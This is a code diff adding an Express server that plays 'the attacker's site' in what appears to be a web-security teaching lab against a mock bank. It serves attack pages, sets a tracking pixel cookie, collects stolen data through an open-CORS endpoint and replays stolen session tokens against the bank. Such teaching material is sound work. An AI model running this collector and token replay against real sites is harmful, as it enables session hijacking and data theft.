@@ -1,0 +1,134 @@
+import { randomBytes } from 'node:crypto';
+import { join } from 'node:path';
+import express, { type Express, type Request, type Response } from 'express';
+import { bounds, createCollector, type Loot } from './collector.ts';
+import { attackPage, isAttack, screenPage } from './pages.ts';
+import { replay, tokenShape, type Address } from './replay.ts';
+
+const studentShape = /^[\w-]{22}$/;
+/** Requests of this server to the bank at the same time. */
+const replaysAtMost = 10;
+const visitorMs = 1_800_000;
+/** A transparent GIF of one pixel. */
+const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
+
+/**
+ * The attacker's site. It knows nothing of the app: it has pages, keeps what is sent to it, and uses what it has stolen.
+ */
+export function createAttacker({
+  bank,
+  bankAddress,
+  now,
+}: {
+  /** Origin of the bank in the browser. */
+  bank: string;
+  /** Where this server reaches the bank. */
+  bankAddress: Address;
+  now: () => number;
+}): Express {
+  const collector = createCollector(now);
+  let replays = 0;
+  const app = express();
+  app.disable('x-powered-by');
+  app.set('etag', false);
+  app.set('query parser', 'simple');
+  app.use((_req, res, next) => {
+    res.set({ 'Cache-Control': 'no-store', 'X-Content-Type-Options': 'nosniff' });
+    next();
+  });
+
+  app.get('/healthz', (_req, res) => void res.json({ ok: true }));
+  app.use('/static', express.static(join(import.meta.dirname, '../pages/static')));
+
+  /** Students know this address as the prize page. */
+  app.get(['/prize', '/attack/:name'], (req, res) => {
+    const name = String(req.params['name'] ?? 'form');
+    const student = studentOf(req, res);
+    if (student === undefined) return;
+    if (!isAttack(name)) return void res.sendStatus(404);
+    res.type('html').send(attackPage(name, { student, bank, startsAtOnce: req.query['go'] !== undefined }));
+  });
+
+  app.get('/pixel.gif', (req, res) => {
+    const student = studentOf(req, res);
+    if (student === undefined) return;
+    const known = /(?:^|; )visitor=([\w-]{11})(?:;|$)/.exec(req.headers.cookie ?? '')?.[1];
+    const visitor = known ?? randomBytes(8).toString('base64url');
+    const text = `${known === undefined ? 'new' : 'known'} visitor ${visitor}`;
+    collector.add(student, { kind: 'pixel', text, ...sourceOf(req) });
+    res.cookie('visitor', visitor, { maxAge: visitorMs, sameSite: 'none', secure: true, httpOnly: true });
+    res.type('gif').send(pixel);
+  });
+
+  const collect = (req: Request, res: Response): void => {
+    // A stolen script may send from any page, and may not wait for the answer.
+    res.set('Access-Control-Allow-Origin', '*');
+    const student = studentOf(req, res);
+    if (student === undefined) return;
+    const body: unknown = req.body;
+    const text = req.query['data'] ?? (typeof body === 'string' ? body : '');
+    collector.add(student, { kind: 'collect', text: String(text), ...sourceOf(req) });
+    res.status(204).end();
+  };
+  app.get('/collect', collect);
+  app.post(
+    '/collect',
+    express.text({ limit: 2 * bounds.characters, type: () => true, inflate: false }),
+    collect,
+  );
+
+  app.get('/seen', (req, res) => {
+    const student = studentOf(req, res);
+    if (student !== undefined) res.json({ seen: collector.seen(student) });
+  });
+  app.post('/forget', (req, res) => {
+    const student = studentOf(req, res);
+    if (student !== undefined) res.json({ forgotten: collector.forget(student) });
+  });
+  app.get('/screen', (req, res) => {
+    const student = studentOf(req, res);
+    if (student !== undefined) res.type('html').send(screenPage({ student, bank }));
+  });
+
+  app.post('/replay', express.json({ limit: 1024, inflate: false }), async (req, res) => {
+    const student = studentOf(req, res);
+    if (student === undefined) return;
+    const body: unknown = req.body;
+    const { token, as } = Object(body);
+    if (typeof token !== 'string' || !tokenShape.test(token)) return void res.sendStatus(422);
+    if (replays >= replaysAtMost) return void res.sendStatus(429);
+    replays += 1;
+    try {
+      const answer = await replay(bank, bankAddress, { token, as: as === 'cookie' ? 'cookie' : 'header' });
+      collector.add(student, {
+        kind: 'replay',
+        text: `${answer.status} ${answer.text}`,
+        origin: '',
+        referer: '',
+      });
+      res.json(answer);
+    } catch {
+      res.sendStatus(502);
+    } finally {
+      replays -= 1;
+    }
+  });
+
+  app.use((_req, res) => void res.sendStatus(404));
+  // Express needs four parameters to recognise an error handler. The text of an error stays on the server.
+  app.use((_error: unknown, _req: Request, res: Response, _next: unknown) => void res.sendStatus(400));
+  return app;
+}
+
+/** Answers 400 and returns undefined without the id of a student. The id is safe in HTML. */
+function studentOf(req: Request, res: Response): string | undefined {
+  const { student } = req.query;
+  if (typeof student === 'string' && studentShape.test(student)) return student;
+  res.sendStatus(400);
+  return undefined;
+}
+
+const sourceOf = (req: Request): Pick<Loot, 'origin' | 'referer'> => ({
+  origin: req.get('Origin') ?? '',
+  referer: req.get('Referer') ?? '',
+});
